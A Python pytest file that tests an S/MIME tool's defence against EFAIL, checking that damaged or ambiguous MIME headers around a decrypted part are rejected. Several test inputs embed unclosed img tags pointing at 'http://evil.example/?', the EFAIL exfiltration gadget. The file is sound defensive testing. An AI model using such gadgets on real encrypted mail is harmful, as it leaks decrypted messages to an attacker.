"""Where a plaintext may stand: nowhere that any reader might take for something else (EFAIL)."""

from __future__ import annotations

import pytest

from sectool import smime
from sectool.errors import UnsupportedMessage
from sectool.message import COPY_BLOCK, BytesContent
from sectool.smime.writing.put_plaintext import check_containment

PLAIN = b"Content-Type: text/html\r\n\r\n<p>The plans</p>\r\n"
ROOT = b'Subject: x\nContent-Type: multipart/mixed; boundary="outer"\n'
PART = b"Content-Type: message/rfc822\n"
FORWARD = b"Subject: y\nContent-Type: application/pkcs7-mime\n"


def check(path: str, inner: bytes = PLAIN, **headers: bytes) -> None:
    """Checks an entity of a message with a forward, of which some headers are others."""
    root, part, forward = (
        headers.get(name, header)
        for name, header in (("root", ROOT), ("part", PART), ("forward", FORWARD))
    )
    raw = root + b"\n--outer\n" + part + b"\n" + forward + b"\nMAA=\n--outer--\n"
    content = BytesContent(raw)
    (place,) = smime.places_of(content, [path])
    check_containment(content, place, BytesContent(inner))


def test_what_all_readers_read_alike_is_taken() -> None:
    check("1.1")
    check("")
    check("", root=b"From alice Mon Jan  7 10:00:00 2019\n" + ROOT)
    check("1.1", root=ROOT.replace(b"\n", b"\r\n"))


DAMAGED = {
    "a line that is no field": b"<img\nsrc='http://evil.example/?\n",
    "a bare CR": b"X-A: b\r\r<img src='http://evil.example/?\n",
    "NUL": b"X-A: b\0c\n",
    "form feed": b"X-A: b\x0c<img\n",
    "a line of white space": b"X-A: b\n \t\n <img src='http://evil.example/?\n",
}


@pytest.mark.parametrize("where", ["root", "part", "forward"])
@pytest.mark.parametrize("name", DAMAGED)
def test_a_header_that_some_end_sooner_keeps_the_part_encrypted(name: str, where: str) -> None:
    header = {"root": ROOT, "part": PART, "forward": FORWARD}[where]
    first, _, rest = header.partition(b"\n")
    with pytest.raises(UnsupportedMessage, match="a header around it is damaged"):
        check("1.1", **{where: first + b"\n" + DAMAGED[name] + rest})


def test_so_it_does_around_a_whole_message() -> None:
    damaged = b"Subject: x\n<img src='http://evil.example/?\n" + FORWARD
    with pytest.raises(UnsupportedMessage, match="a header around it is damaged"):
        check("", root=damaged)


def test_more_lines_than_one_before_the_header_keep_it_encrypted() -> None:
    with pytest.raises(UnsupportedMessage, match="a header around it is damaged"):
        check("", root=b"From alice\n <img src='http://evil.example/?\n" + ROOT)


@pytest.mark.parametrize("where", ["root", "part"])
def test_what_is_around_must_say_once_what_it_is(where: str) -> None:
    header = {"root": ROOT, "part": PART}[where]
    twice = b"Content-Type: text/html\n"
    with pytest.raises(UnsupportedMessage, match="says its type twice"):
        check("1.1", **{where: header + twice})


def test_the_part_itself_may_since_all_of_that_is_replaced() -> None:
    check("1.1", forward=FORWARD + b"Content-Type: application/x-pkcs7-mime\n")


@pytest.mark.parametrize("before", [b"", b"x" * (COPY_BLOCK - 3) + b"\r\n", b"y\r"])
def test_a_line_that_begins_with_a_boundary_around_is_found_wherever_it_is(before: bytes) -> None:
    with pytest.raises(UnsupportedMessage, match="would end the multipart"):
        check("1.1", before + b"--outermost")
    check("1.1", before + b"- -outer, x--outer")
